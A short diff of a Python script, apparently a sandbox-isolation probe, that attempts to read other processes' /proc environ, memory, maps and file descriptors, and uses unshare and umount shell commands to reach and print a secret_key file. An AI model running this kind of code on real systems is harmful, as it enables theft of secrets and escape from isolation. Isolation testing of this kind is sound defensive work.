@@ -201,7 +201,13 @@ for n, root in enumerate(roots):
 for pid in pids:
     for name in ("environ", "mem", "maps"):
         attempt(f"{name}-{pid}", read(f"/proc/{pid}/{name}"))
-    attempt(f"fds-{pid}", listing(f"/proc/{pid}/fd"))
+    try:
+        numbers = os.listdir(f"/proc/{pid}/fd")
+    except OSError:
+        numbers = []
+    for number in numbers:
+        attempt(f"fd-{pid}-{number}", lambda: os.readlink(f"/proc/{pid}/fd/{number}"))
+        attempt(f"fd-{pid}-{number}", lambda: os.open(f"/proc/{pid}/fd/{number}", os.O_RDONLY))
 os.system("unshare -Urm sh -c 'umount -l " + data + "; umount " + data + ";"
           " cat " + data + "/secret_key' 2>/dev/null")
 os.system("umount -l " + data + " 2>/dev/null; cat " + data + "/secret_key 2>/dev/null")
